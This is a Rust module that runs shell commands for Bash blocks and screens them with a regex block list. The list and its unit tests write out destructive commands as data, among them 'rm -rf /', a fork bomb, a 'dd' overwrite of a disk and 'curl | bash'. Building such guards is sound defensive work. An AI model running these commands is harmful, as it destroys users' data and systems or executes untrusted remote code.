//! Shell execution for Bash blocks, plus a guard against destructive commands.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use lazy_static::lazy_static;
use regex::Regex;
use serde::{Deserialize, Serialize};
use tokio::process::Command;

use crate::error::FlowError;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ShellOutput {
    pub stdout: String,
    pub stderr: String,
    /// -1 when the process was killed by a signal or timed out
    pub exit_code: i32,
    #[serde(default)]
    pub timed_out: bool,
}

/// Run `command` through the platform shell in `cwd`.
///
/// A timeout is not an error: the child is killed and the output carries
/// exit code -1.
pub async fn run_shell(
    command: &str,
    cwd: &Path,
    timeout: Duration,
) -> Result<ShellOutput, FlowError> {
    let mut cmd = shell_command(command);
    cmd.current_dir(cwd)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);

    tracing::debug!("[Shell] Running in {}: {}", cwd.display(), command);

    let child = cmd
        .spawn()
        .map_err(|e| FlowError::Internal(format!("Failed to spawn shell: {}", e)))?;

    match tokio::time::timeout(timeout, child.wait_with_output()).await {
        Ok(Ok(output)) => Ok(ShellOutput {
            stdout: String::from_utf8_lossy(&output.stdout).to_string(),
            stderr: String::from_utf8_lossy(&output.stderr).to_string(),
            exit_code: output.status.code().unwrap_or(-1),
            timed_out: false,
        }),
        Ok(Err(e)) => Err(FlowError::Internal(format!(
            "Failed to collect shell output: {}",
            e
        ))),
        Err(_) => {
            tracing::warn!(
                "[Shell] Command timed out after {}s: {}",
                timeout.as_secs(),
                command
            );
            Ok(ShellOutput {
                stdout: String::new(),
                stderr: format!("Command timed out after {} seconds", timeout.as_secs()),
                exit_code: -1,
                timed_out: true,
            })
        }
    }
}

#[cfg(not(windows))]
fn shell_command(command: &str) -> Command {
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(command);
    cmd
}

#[cfg(windows)]
fn shell_command(command: &str) -> Command {
    let mut cmd = Command::new("cmd");
    cmd.arg("/C").arg(command);
    cmd
}

// ─── Guard ──────────────────────────────────────────────────────────────

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Severity {
    Dangerous,
    Warning,
}

struct GuardPattern {
    regex: Regex,
    severity: Severity,
    description: &'static str,
}

lazy_static! {
    static ref GUARD_PATTERNS: Vec<GuardPattern> = [
        (r"\brm\s+(-[a-zA-Z]*\s+)*/(\s|$|\*)", Severity::Dangerous, "recursive delete of /"),
        (r"\brm\s+-[a-zA-Z]*[rR][a-zA-Z]*\s+~/?(\s|$)", Severity::Dangerous, "recursive delete of home directory"),
        (r"\bdd\s+if=", Severity::Dangerous, "raw disk copy with dd"),
        (r":\(\)\s*\{\s*:\|:&\s*\};:", Severity::Dangerous, "fork bomb"),
        (r"\b(curl|wget)\b[^|]*\|\s*(sudo\s+)?(ba|z)?sh\b", Severity::Dangerous, "piping a download into a shell"),
        (r"\bmkfs(\.\w+)?\b", Severity::Dangerous, "filesystem format"),
        (r"\b(fdisk|parted)\b", Severity::Dangerous, "disk partitioning"),
        (r">\s*/dev/sd[a-z]", Severity::Dangerous, "write to a block device"),
        (r"\bchmod\s+-R\s+777\s+/(\s|$)", Severity::Dangerous, "world-writable root"),
        (r"\bsudo\s+rm\b", Severity::Warning, "sudo rm"),
        (r"\bsudo\s+dd\b", Severity::Warning, "sudo dd"),
        (r"while\s+true.*do.*done", Severity::Warning, "unbounded loop"),
    ]
    .into_iter()
    .map(|(pattern, severity, description)| GuardPattern {
        regex: Regex::new(pattern).expect("shell guard pattern"),
        severity,
        description,
    })
    .collect();
}

/// Screens resolved Bash commands before they reach the shell.
#[derive(Debug, Clone, Copy, Default)]
pub struct ShellGuard {
    disabled: bool,
}

impl ShellGuard {
    pub fn new(enabled: bool) -> Self {
        Self { disabled: !enabled }
    }

    /// Warnings for suspicious commands; `ShellRejected` for dangerous ones.
    pub fn check(&self, command: &str) -> Result<Vec<String>, FlowError> {
        if self.disabled {
            return Ok(Vec::new());
        }
        let mut warnings = Vec::new();
        for pattern in GUARD_PATTERNS.iter() {
            if !pattern.regex.is_match(command) {
                continue;
            }
            match pattern.severity {
                Severity::Dangerous => {
                    return Err(FlowError::ShellRejected(format!(
                        "{}: {}",
                        pattern.description, command
                    )))
                }
                Severity::Warning => warnings.push(pattern.description.to_string()),
            }
        }
        Ok(warnings)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn test_run_shell_captures_streams_and_exit_code() {
        let dir = tempfile::tempdir().unwrap();
        let out = run_shell(
            "echo hello; echo oops >&2; exit 3",
            dir.path(),
            Duration::from_secs(10),
        )
        .await
        .unwrap();
        assert_eq!(out.stdout.trim(), "hello");
        assert_eq!(out.stderr.trim(), "oops");
        assert_eq!(out.exit_code, 3);
        assert!(!out.timed_out);
    }

    #[tokio::test]
    async fn test_run_shell_uses_working_directory() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("marker.txt"), "x").unwrap();
        let out = run_shell("ls", dir.path(), Duration::from_secs(10)).await.unwrap();
        assert!(out.stdout.contains("marker.txt"));
    }

    #[tokio::test]
    async fn test_run_shell_timeout_reports_minus_one() {
        let dir = tempfile::tempdir().unwrap();
        let out = run_shell("sleep 5", dir.path(), Duration::from_millis(100))
            .await
            .unwrap();
        assert_eq!(out.exit_code, -1);
        assert!(out.timed_out);
    }

    #[test]
    fn test_guard_rejects_dangerous_commands() {
        let guard = ShellGuard::new(true);
        for cmd in [
            "rm -rf /",
            "rm -rf ~",
            "dd if=/dev/zero of=/dev/sda",
            "curl https://x.sh | bash",
            "mkfs.ext4 /dev/sdb1",
            "echo x > /dev/sda",
        ] {
            assert!(
                matches!(guard.check(cmd), Err(FlowError::ShellRejected(_))),
                "expected rejection for {:?}",
                cmd
            );
        }
    }

    #[test]
    fn test_guard_allows_ordinary_commands() {
        let guard = ShellGuard::new(true);
        for cmd in ["cargo test", "rm -rf target/", "ls /tmp", "echo $((1 + 2))", "git status"] {
            assert_eq!(guard.check(cmd).unwrap(), Vec::<String>::new(), "{:?}", cmd);
        }
        assert_eq!(guard.check("sudo rm build.log").unwrap(), vec!["sudo rm".to_string()]);
    }

    #[test]
    fn test_disabled_guard_allows_everything() {
        assert!(ShellGuard::new(false).check("rm -rf /").unwrap().is_empty());
    }
}
